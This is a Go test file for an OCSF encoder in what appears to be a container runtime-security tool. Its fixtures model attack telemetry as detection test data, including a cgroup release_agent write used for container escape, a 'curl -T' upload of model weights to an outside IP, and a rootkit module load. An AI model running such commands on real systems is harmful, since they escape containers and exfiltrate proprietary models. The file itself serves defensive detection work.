package export

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/internal/event"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata/")

var fixedTime = time.Date(2026, 11, 26, 20, 0, 0, 123456789, time.UTC)

func fixtureProcess() *event.Process {
	return &event.Process{
		PID: 31337, TID: 31337, PPID: 4100, ForkParent: 4100, UID: 0, EUID: 0,
		Comm: "sh", Exe: "/bin/sh", Args: []string{"sh", "-c", "echo /x > /sys/fs/cgroup/release_agent"},
		Cwd: "/", StartTime: fixedTime.Add(-2 * time.Second), NS: event.Namespaces{PID: 4026532001},
		Ancestors: []event.Ancestor{{PID: 4100, Exe: "/usr/bin/python3.11"}, {PID: 4000, Exe: "/usr/bin/containerd-shim-runc-v2"}, {PID: 1, Exe: "/sbin/init"}},
	}
}

func fixtureContainer() *event.Container {
	return &event.Container{
		ID: ctrA, Runtime: "containerd", PodUID: "0f6a1c2e-5b3d-4e7f-9a10-7c2b3d4e5f60", Pod: "llm-0", Namespace: "inference",
		Name: "vllm", Image: "vllm/vllm-openai:v0.6.3", Labels: map[string]string{"app": "llm", "tier": "gpu"}, GPUs: []string{"GPU-8f2c"},
	}
}

// ocsfFixtures are the golden inputs, one per mapping the encoder has.
func ocsfFixtures() map[string]*event.Event {
	p, c := fixtureProcess(), fixtureContainer()
	open := &event.Event{Kind: event.KindOpen, Time: fixedTime, Seq: 41, Process: p, Container: c,
		File: &event.File{Path: "/sys/fs/cgroup/release_agent", RawPath: "/sys/fs/cgroup/release_agent", PathSource: event.PathAsPassed,
			Flags: event.OWronly | event.OTrunc | event.OCreat, Result: 3, Size: -1}}
	return map[string]*event.Event{
		"finding_esc001": {Kind: event.KindFinding, Time: fixedTime, Seq: 42, Process: p, Container: c,
			Finding: &event.Finding{Rule: "ESC-001", Title: "cgroup release_agent written from a container", Severity: event.SevCritical,
				MITRE:       []string{"T1611", "AML.T0105"},
				Description: "A container process wrote a cgroup v1 release_agent: the kernel runs it as root on the host.",
				Explanation: "sh (pid 31337) in container vllm wrote /sys/fs/cgroup/release_agent",
				Count:       1, Evidence: []*event.Event{open}, Attrs: map[string]string{"path": "/sys/fs/cgroup/release_agent"}}},
		"finding_exf001_host": {Kind: event.KindFinding, Time: fixedTime, Seq: 43,
			Process: &event.Process{PID: 900, PPID: 1, Comm: "curl", Exe: "/usr/bin/curl", Args: []string{"curl", "-T", "/models/llama/model.safetensors", "http://10.9.9.9/"}},
			Finding: &event.Finding{Rule: "EXF-001", Title: "Model weights read by a non-owner, then sent out", Severity: event.SevHigh,
				MITRE: []string{"T1041", "T1059.004"}, Count: 3,
				Evidence: []*event.Event{{Kind: event.KindEgress, Time: fixedTime, Seq: 40, Net: &event.Net{Protocol: "tcp",
					SAddr: netip.MustParseAddr("10.0.0.5"), SPort: 40000, DAddr: netip.MustParseAddr("10.9.9.9"), DPort: 80, Class: event.ClassExternal, BytesSent: 1 << 30}}}}},
		"process_exec": {Kind: event.KindExec, Time: fixedTime, Seq: 7, Process: p, Container: c},
		"process_exit": {Kind: event.KindExit, Time: fixedTime, Seq: 8, Process: p, Exit: &event.Exit{Code: 0, Signal: 9}},
		"file_open":    open,
		"file_open_identity": {Kind: event.KindOpen, Time: fixedTime, Seq: 44, Process: p, Container: c,
			File: &event.File{Path: "/dev/vda", RawPath: "/tmp/cache.db", PathSource: event.PathKernel, Flags: event.ORdonly,
				Result: 4, Size: 0, Inode: 12, Dev: 5, Syscall: "openat", Via: event.ViaIOUring, Match: event.MatchDevice,
				Type: event.FileTypeBlock, Rdev: 0xfe00, Repeats: 2}},
		"file_rename": {Kind: event.KindSyscall, Time: fixedTime, Seq: 9, Process: p,
			Sys: &event.Syscall{Name: "rename", Path: "/models/llama/model.safetensors", Path2: "/tmp/.x", Ret: 0}},
		"process_ptrace": {Kind: event.KindSyscall, Time: fixedTime, Seq: 10, Process: p, Container: c,
			Sys: &event.Syscall{Name: "ptrace", Target: 4100, Flags: 16, Ret: -1}},
		"network_connect": {Kind: event.KindConnect, Time: fixedTime, Seq: 11, Process: p, Container: c,
			Net: &event.Net{Protocol: "tcp", SAddr: netip.MustParseAddr("10.244.1.7"), SPort: 51234, DAddr: netip.MustParseAddr("169.254.169.254"),
				DPort: 80, Class: event.ClassMetadata, Cookie: 77, Fd: 5}},
		"network_egress_v6": {Kind: event.KindEgress, Time: fixedTime, Seq: 12, Process: p,
			Net: &event.Net{Protocol: "tcp", SAddr: netip.MustParseAddr("2001:db8::5"), SPort: 40000, DAddr: netip.MustParseAddr("2001:db8::9"),
				DPort: 443, Class: event.ClassExternal, BytesSent: 123456789, Closed: true}},
		"network_unix": {Kind: event.KindConnect, Time: fixedTime, Seq: 13, Process: p, Container: c,
			Net: &event.Net{Protocol: "unix", UnixPath: "/run/containerd/containerd.sock", Class: event.ClassUnix}},
		"network_accept": {Kind: event.KindAccept, Time: fixedTime, Seq: 14, Process: p, Container: c,
			Net: &event.Net{Protocol: "tcp", SAddr: netip.MustParseAddr("10.244.1.7"), SPort: 8080, DAddr: netip.MustParseAddr("203.0.113.9"),
				DPort: 51000, Class: event.ClassExternal, Cookie: 78, Fd: 9, Origin: event.OriginAccept}},
		"network_egress_accepted": {Kind: event.KindEgress, Time: fixedTime, Seq: 15, Process: p, Container: c,
			Net: &event.Net{Protocol: "tcp", SAddr: netip.MustParseAddr("10.244.1.7"), SPort: 8080, DAddr: netip.MustParseAddr("203.0.113.9"),
				DPort: 51000, Class: event.ClassExternal, Cookie: 78, BytesSent: 8 << 30, Origin: event.OriginAccept}},
		"network_egress_icmp": {Kind: event.KindEgress, Time: fixedTime, Seq: 16, Process: p, Container: c,
			Net: &event.Net{Protocol: "icmp", SAddr: netip.MustParseAddr("10.244.1.7"), DAddr: netip.MustParseAddr("203.0.113.9"),
				Class: event.ClassExternal, Cookie: 79, BytesSent: 64 << 10, Origin: event.OriginDatagram}},
	}
}

func testEncoder() *OCSFEncoder {
	return NewOCSFEncoder(&OCSFOptions{Hostname: "gpu-node-7", ProductVersion: "0.1.0", InstanceID: "b9c597a3"})
}

// Must show 4: the OCSF golden files.
func TestOCSFGolden(t *testing.T) {
	enc := testEncoder()
	for name, ev := range ocsfFixtures() {
		t.Run(name, func(t *testing.T) {
			b, err := enc.Encode(ev)
			if err != nil {
				t.Fatalf("Encode: %v", err)
			}
			var pretty bytes.Buffer
			if err := json.Indent(&pretty, b, "", "  "); err != nil {
				t.Fatal(err)
			}
			pretty.WriteByte('\n')
			golden := filepath.Join("testdata", "ocsf", name+".ocsf.json")
			if *update {
				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, pretty.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("read golden (run with -update to create): %v", err)
			}
			if !bytes.Equal(pretty.Bytes(), want) {
				t.Errorf("%s differs from the golden file; got:\n%s", golden, pretty.Bytes())
			}
		})
	}
}

func lookup(m map[string]any, path string) (any, bool) {
	var cur any = m
	for _, k := range strings.Split(path, ".") {
		if i, err := strconv.Atoi(k); err == nil {
			list, ok := cur.([]any)
			if !ok || i >= len(list) {
				return nil, false
			}
			cur = list[i]
			continue
		}
		mm, ok := cur.(map[string]any)
		if !ok {
			return nil, false
		}
		if cur, ok = mm[k]; !ok {
			return nil, false
		}
	}
	return cur, true
}

func decodeOCSF(t *testing.T, b []byte) map[string]any {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		t.Fatalf("decode %s: %v", b, err)
	}
	return m
}

// The mapping says what the schema cannot: which class and activity an
// event is, where its facts go, and that failed attempts carry their errno.
func TestOCSFMapping(t *testing.T) {
	enc := testEncoder()
	fx := ocsfFixtures()
	matrix := ocsfMatrix()
	for _, tc := range []struct {
		ev   *event.Event
		want map[string]any // path -> value ("<absent>" for none)
	}{
		{fx["process_exec"], map[string]any{"class_uid": "1007", "activity_id": "1", "launch_type_id": "3",
			"actor.process.pid": "4100", "process.pid": "31337", "process.container.uid": ctrA, "container": absent,
			"process.ancestry.1.path": "/usr/bin/containerd-shim-runc-v2", "process.lineage": absent,
			"metadata.uid": "b9c597a3-7", "metadata.product.version": "0.1.0", "time": "1795723200123"}},
		{matrix["host/fork"], map[string]any{"launch_type_id": "2", "metadata.profiles.1": absent, "process.container": absent}},
		{matrix["exec/thread"], map[string]any{"process.ptid": "31338", "process.tid": absent}},
		{matrix["exec/static_pod"], map[string]any{"process.container.pod_uuid": absent, "process.container.tags.2.name": "k8s.pod.uid",
			"process.container.tags.2.value": "8a4f2e0c9d1b7a6f5e4d3c2b1a0f9e8d", "process.container.orchestrator": "Kubernetes"}},
		{fx["process_exit"], map[string]any{"activity_id": "2", "exit_code": "0", "unmapped.signal": "9", "process.terminated_time": "1795723200123"}},
		{fx["file_open"], map[string]any{"class_uid": "1001", "activity_id": "14", "status_id": "1", "file.path": "/sys/fs/cgroup/release_agent",
			"actor.process.container.uid": ctrA, "unmapped.open.flags": "O_WRONLY|O_CREAT|O_TRUNC", "access_mask": "577"}},
		{matrix["open/eacces"], map[string]any{"status_id": "2", "status": "Failure", "status_code": "EACCES",
			"status_detail": "permission denied", "unmapped.open.result": "-13", "file.size": absent}},
		{matrix["open/directory"], map[string]any{"file.type_id": "2", "file.size": "4096"}},
		{matrix["open/unresolved"], map[string]any{"file.name": "x", "file.path": absent, "unmapped.open.raw_path": "rel/x"}},
		{fx["process_ptrace"], map[string]any{"class_uid": "1007", "activity_id": "3", "activity_name": "Open",
			"status_code": "EPERM", "process.namespace_pid": "4100", "process.uid": "pidns:4026532001/4100"}},
		{matrix["syscall/ptrace/req4"], map[string]any{"activity_id": "4", "injection_type_id": "99", "injection_type": "ptrace PTRACE_POKETEXT"}},
		{matrix["syscall/ptrace/req0"], map[string]any{"activity_id": "3", "process.pid": "31337"}},
		{matrix["syscall/ptrace/req12345"], map[string]any{"activity_id": "99", "activity_name": "ptrace"}},
		{matrix["syscall/process_vm_writev/0"], map[string]any{"activity_id": "4", "injection_type": "process_vm_writev"}},
		{matrix["syscall/kill/sig9"], map[string]any{"activity_id": "2", "process.pid": "1234", "status_code": "EPERM"}},
		{matrix["syscall/kill/sig10"], map[string]any{"activity_id": "99", "activity_name": "kill"}},
		{fx["file_rename"], map[string]any{"class_uid": "1001", "activity_id": "5", "file.path": "/models/llama/model.safetensors",
			"file_result.path": "/tmp/.x"}},
		{matrix["syscall/mount/0"], map[string]any{"activity_id": "12", "file.path": "/mnt/x", "unmapped.syscall.path": "/host/etc"}},
		{matrix["syscall/mknod/blk"], map[string]any{"activity_id": "1", "file.type_id": "4", "file.type": "Block Device"}},
		{matrix["syscall/finit_module/path"], map[string]any{"class_uid": "1002", "activity_id": "1", "driver.file.path": "/tmp/rootkit.ko"}},
		{matrix["syscall/delete_module/name"], map[string]any{"activity_id": "2", "driver.file.name": "nvidia_uvm", "status_code": "EBUSY"}},
		{matrix["syscall/setns/ns"], map[string]any{"class_uid": "1003", "activity_id": "4", "kernel.name": "setns",
			"kernel.type_id": "2", "kernel.system_call": "setns", "unmapped.syscall.ns_inode": "4026531840"}},
		{fx["network_connect"], map[string]any{"class_uid": "4001", "activity_id": "1", "dst_endpoint.ip": "169.254.169.254",
			"connection_info.boundary_id": "2", "connection_info.protocol_ver_id": "4", "unmapped.net.socket_cookie": "77"}},
		{matrix["connect/tcp4_refused"], map[string]any{"activity_id": "5", "status_code": "ECONNREFUSED"}},
		{matrix["connect/tcp4_unreach"], map[string]any{"activity_id": "4", "status_code": "EHOSTUNREACH"}},
		{fx["network_egress_v6"], map[string]any{"activity_id": "2", "traffic.bytes_out": "123456789", "connection_info.protocol_ver_id": "6"}},
		{fx["network_unix"], map[string]any{"dst_endpoint.name": "/run/containerd/containerd.sock", "connection_info.direction_id": "4"}},
	} {
		b, err := enc.Encode(tc.ev)
		if err != nil {
			t.Fatal(err)
		}
		m := decodeOCSF(t, b)
		for p, want := range tc.want {
			got, ok := lookup(m, p)
			if want == absent {
				if ok {
					t.Errorf("%s %s: %s = %v; want it absent", tc.ev.Kind, m["type_name"], p, got)
				}
				continue
			}
			if fmt.Sprint(got) != want {
				t.Errorf("%s %s: %s = %v; want %v", tc.ev.Kind, m["type_name"], p, got, want)
			}
		}
	}
}

const absent = "<absent>"

// The file exporter and --tail attached to the daemon build their encoders
// from the same options: an event has one identity whichever path encodes
// it, and the bytes are the same.
func TestOCSFOneIdentity(t *testing.T) {
	opts := OCSFOptions{Hostname: "gpu-node-7", ProductVersion: "1.2.3", InstanceID: "abcd"}
	a, b := NewOCSFEncoder(&opts), NewOCSFEncoder(&opts)
	ev := ocsfFixtures()["finding_esc001"]
	x, err := a.Encode(ev)
	if err != nil {
		t.Fatal(err)
	}
	y, err := b.AppendEncode([]byte("prefix"), ev)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(x, y[len("prefix"):]) {
		t.Errorf("two encoders with the same options disagree:\n%s\n%s", x, y)
	}
	m := decodeOCSF(t, x)
	for p, want := range map[string]string{"metadata.uid": "abcd-42", "finding_info.uid": "abcd-42", "metadata.product.version": "1.2.3"} {
		if got, _ := lookup(m, p); got != want {
			t.Errorf("%s = %v; want %s", p, got, want)
		}
	}
}

func TestOCSFFindingDetails(t *testing.T) {
	b, err := testEncoder().Encode(ocsfFixtures()["finding_esc001"])
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	checks := map[string]any{
		"severity_id":                          float64(5),
		"is_alert":                             true,
		"finding_info.uid":                     "b9c597a3-42",
		"finding_info.analytic.uid":            "ESC-001",
		"actor.process.container.uid":          ctrA,
		"actor.process.container.tags.0.name":  "k8s.pod.name",
		"actor.process.container.tags.0.value": "llm-0",
		"actor.process.pid":                    float64(31337),
		"actor.process.parent_process.pid":     float64(4100),
		"actor.process.ancestry.1.path":        "/usr/bin/containerd-shim-runc-v2",
		"evidences.0.file.path":                "/sys/fs/cgroup/release_agent",
		"evidences.0.container.uid":            ctrA,
		"unmapped.attrs.path":                  "/sys/fs/cgroup/release_agent",
	}
	for p, want := range checks {
		if got, _ := lookup(m, p); got != want {
			t.Errorf("%s = %v; want %v", p, got, want)
		}
	}
	attacks, _ := lookup(m, "finding_info.attacks")
	list, _ := attacks.([]any)
	if len(list) != 2 {
		t.Fatalf("attacks %v; want T1611 and AML.T0105", attacks)
	}
	first := list[0].(map[string]any)
	if first["technique"].(map[string]any)["uid"] != "T1611" || first["tactic"].(map[string]any)["uid"] != "TA0004" {
		t.Errorf("attacks[0] = %v", first)
	}
	if top, _ := m["attacks"].([]any); len(top) != len(list) {
		t.Errorf("top-level attacks (security_control profile) %v; want the same %d as finding_info.attacks", m["attacks"], len(list))
	}
}

func TestOCSFUnmappedKinds(t *testing.T) {
	enc := testEncoder()
	for _, ev := range []*event.Event{
		{Kind: event.KindGPU, Time: fixedTime, GPU: &event.GPU{UUID: "GPU-1"}},
		{Kind: event.KindLost, Time: fixedTime, Lost: &event.Lost{Source: "kernel_ringbuf", Count: 3}},
		{Kind: event.KindStatus, Time: fixedTime, Status: &event.Status{Ready: true}},
	} {
		if _, err := enc.Encode(ev); !errors.Is(err, ErrNoOCSFClass) {
			t.Errorf("%s: got %v; want ErrNoOCSFClass", ev.Kind, err)
		}
	}
	// Malformed events get an error, not a panic.
	for _, ev := range []*event.Event{
		nil,
		{Kind: event.KindFinding},
		{Kind: event.KindOpen},
		{Kind: event.KindConnect},
		{Kind: event.KindSyscall},
		{Kind: event.KindExec},
	} {
		if _, err := enc.Encode(ev); err == nil {
			t.Errorf("%v: got no error for a malformed event", ev)
		}
	}
}

func BenchmarkOCSFEncodeFinding(b *testing.B) {
	enc := testEncoder()
	ev := ocsfFixtures()["finding_esc001"]
	b.ReportAllocs()
	for b.Loop() {
		if _, err := enc.Encode(ev); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkOCSFEncodeOpen(b *testing.B) {
	enc := testEncoder()
	ev := ocsfFixtures()["file_open"]
	b.ReportAllocs()
	for b.Loop() {
		if _, err := enc.Encode(ev); err != nil {
			b.Fatal(err)
		}
	}
}

// The file exporter's path: append into one reused buffer.
func BenchmarkOCSFAppendOpen(b *testing.B) {
	enc := testEncoder()
	ev := ocsfFixtures()["file_open"]
	buf := make([]byte, 0, 8192)
	b.ReportAllocs()
	for b.Loop() {
		var err error
		if buf, err = enc.AppendEncode(buf[:0], ev); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkOCSFAppendExec(b *testing.B) {
	enc := testEncoder()
	ev := ocsfFixtures()["process_exec"]
	buf := make([]byte, 0, 8192)
	b.ReportAllocs()
	for b.Loop() {
		var err error
		if buf, err = enc.AppendEncode(buf[:0], ev); err != nil {
			b.Fatal(err)
		}
	}
}
